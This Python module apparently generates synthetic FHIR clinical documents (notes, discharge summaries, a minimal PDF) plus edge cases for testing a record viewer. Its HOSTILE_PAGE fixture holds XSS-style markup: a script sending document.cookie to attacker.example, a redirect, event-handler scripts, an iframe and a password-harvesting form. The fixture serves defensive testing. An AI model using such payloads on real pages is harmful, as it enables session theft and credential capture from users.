"""Letters and notes: text, a PDF, a hostile page, one that replaces another, one that is kept apart."""

from __future__ import annotations

from base64 import b64encode
from datetime import datetime, timedelta
from hashlib import sha1

from .chart import Chart, Visit
from .fhir import Json, coding, loinc, moment, ref

CLINICAL_NOTE = {
    "coding": [
        coding(
            "http://hl7.org/fhir/us/core/CodeSystem/us-core-documentreference-category",
            "clinical-note",
            "Clinical Note",
        )
    ]
}
CONSULT = loinc("11488-4", "Consult note")
DISCHARGE = loinc("18842-5", "Discharge summary")
SUMMARY = loinc("34133-9", "Summary of episode note")

HOSTILE_PAGE = """<!doctype html>
<html><head><title>Letter</title><meta http-equiv="refresh" content="0;url=https://attacker.example/"></head>
<body onload="document.title='ran'">
<h1>Letter</h1>
<script>fetch('https://attacker.example/?stolen=' + document.cookie)</script>
<img src="x" onerror="alert('ran')">
<a href="javascript:alert('ran')">Results</a>
<iframe src="https://attacker.example/frame"></iframe>
<form action="https://attacker.example/"><input name="password"></form>
<p style="background:url(https://attacker.example/pixel)">The blood pressure is well controlled.</p>
</body></html>
"""


def pdf(lines: list[str]) -> bytes:
    """A PDF of one page with these lines: as small as the format allows, with a right table of offsets."""
    shown = "".join(f"({line.translate({40: '[', 41: ']', 92: '/'})}) Tj T*\n" for line in lines)
    text = f"BT /F1 12 Tf 16 TL 60 780 Td\n{shown}ET".encode("latin-1", "replace")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
    ]
    made = b"%PDF-1.4\n"
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(made)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    made += b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\n" % (size, table, size)
    return made + b"startxref\n%d\n%%%%EOF\n" % start


def attachment(content: bytes, kind: str, title: str) -> Json:
    """The content itself; FHIR wants its SHA-1 beside it."""
    return {
        "contentType": kind,
        "language": "en",
        "data": b64encode(content).decode(),
        "size": len(content),
        "hash": b64encode(sha1(content, usedforsecurity=False).digest()).decode(),
        "title": title,
    }


def add_document(
    chart: Chart,
    at: datetime,
    attached: Json,
    *,
    code: Json,
    visit: Visit | None = None,
    security: list[Json] | None = None,
    **more: object,
) -> Json:
    """One document with one attachment."""
    context: Json = {}
    if visit:
        context = {"encounter": [visit.reference], "period": {"start": moment(visit.start)}}
    fields: Json = {
        "status": "current",
        "docStatus": "final",
        "type": code,
        "category": [CLINICAL_NOTE],
        "subject": chart.subject,
        "date": moment(at),
        "author": [visit.doctor if visit else chart.doctor()],
        "custodian": ref(chart.places.facility, chart.source.title),
        "content": [{"attachment": attached}],
        "context": context or None,
    }
    return chart.add("DocumentReference", at, security, **(fields | more))


def add_note(
    chart: Chart, visit: Visit, title: str, text: str, *, code: Json = CONSULT, security: list[Json] | None = None
) -> Json:
    """A plain text note written at the end of a visit."""
    head = f"{title}\n{visit.day.isoformat()}, {chart.source.title}\n\n"
    attached = attachment((head + text + "\n").encode(), "text/plain; charset=utf-8", title)
    return add_document(chart, visit.start + timedelta(minutes=30), attached, code=code, visit=visit, security=security)


def add_documents(chart: Chart) -> None:
    """A summary after each stay in hospital, a note now and then, a PDF for every fifth patient."""
    for visit in chart.visits:
        if visit.kind == "IMP" and visit.end:
            discharge(chart, visit)
        elif chart.chance(0.15) and not chart.has("newborn"):
            notes = NOTES if chart.age_on(visit.day) >= 18 else CHILD_NOTES
            add_note(chart, visit, "Clinic note", chart.rng.choice(notes))
    if chart.visits and chart.chance(0.2) and not chart.has("newborn"):
        letter(chart, chart.rng.choice(chart.visits))
    if chart.has("document-oddities"):
        add_oddities(chart)
    if chart.has("newborn"):
        about_two(chart)


NOTES = (
    "Feels well. Examination unremarkable. Plan: continue as before, review in six months.",
    "Reports more tiredness than last time. Blood tests taken. Will write with the results.",
    "Discussed diet and exercise. Would like to try without a further tablet for three months.",
    "Wound has healed. No further appointment needed unless something changes.",
    "Came with a relative who helps at home. Medicines checked together; the box is filled weekly.",
)
CHILD_NOTES = (
    "Came with a parent. Growing along the same line as before. Next check as planned.",
    "Parent worried about sleep. Examination normal. Advice given, no treatment needed.",
    "Better since the last visit. May go back to school.",
)


def discharge(chart: Chart, visit: Visit) -> None:
    days = max(1, (visit.end - visit.start).days) if visit.end else 0
    text = (
        f"In hospital for {days} day{'s' if days != 1 else ''}. Improved with treatment and went home.\n"
        "Please check the blood pressure and the kidney function in two weeks.\n"
    )
    head = f"Discharge summary\n{chart.source.title}\n\n"
    attached = attachment((head + text).encode(), "text/plain; charset=utf-8", "Discharge summary")
    add_document(chart, visit.end or visit.start, attached, code=DISCHARGE, visit=visit)


def letter(chart: Chart, visit: Visit) -> Json:
    content = pdf(
        ["Outpatient letter", visit.day.isoformat(), "", "Seen in clinic. No change to treatment.", chart.source.title]
    )
    attached = attachment(content, "application/pdf", "Outpatient letter")
    return add_document(chart, visit.start + timedelta(hours=2), attached, code=SUMMARY, visit=visit)


def add_oddities(chart: Chart) -> None:
    """What a viewer must survive: markup that wants to run, a replaced letter, content elsewhere, content missing."""
    visit = chart.visits[-1]
    at = visit.start + timedelta(hours=1)
    add_document(
        chart, at, attachment(HOSTILE_PAGE.encode(), "text/html", "Letter <i>as a page</i>"), code=CONSULT, visit=visit
    )
    first = add_note(chart, visit, "Letter, first version", "Stop the water tablet.")
    second = add_note(
        chart, visit, "Letter, second version", "Do not stop the water tablet: the first letter was wrong."
    )
    chart.revise(first, at + timedelta(hours=1), status="superseded")
    second["relatesTo"] = [{"code": "replaces", "target": ref(first)}]
    letter(chart, visit)
    binary = chart.add(
        "Binary",
        at,
        contentType="text/plain",
        securityContext=chart.subject,
        data=b64encode(b"Kept apart from its document.\n").decode(),
    )
    apart = {"contentType": "text/plain", "url": f"Binary/{binary['id']}", "title": "Letter kept apart"}
    add_document(chart, at, apart, code=SUMMARY, visit=visit)
    add_document(
        chart,
        at,
        {"contentType": "application/pdf", "title": "Scan that was never attached"},
        code=SUMMARY,
        visit=visit,
    )
    wrong = add_note(chart, visit, "Note about someone else", "Written into the wrong record.")
    chart.revise(wrong, at + timedelta(hours=2), status="entered-in-error")


def about_two(chart: Chart) -> None:
    """A birth report that names the mother too: it may be shown only to those who may see both."""
    made = add_note(
        chart, chart.visits[0], "Birth report", "Born at term, breathed at once. Mother and child are well."
    )
    if mother := chart.member("mother"):
        made["context"]["related"] = [mother]
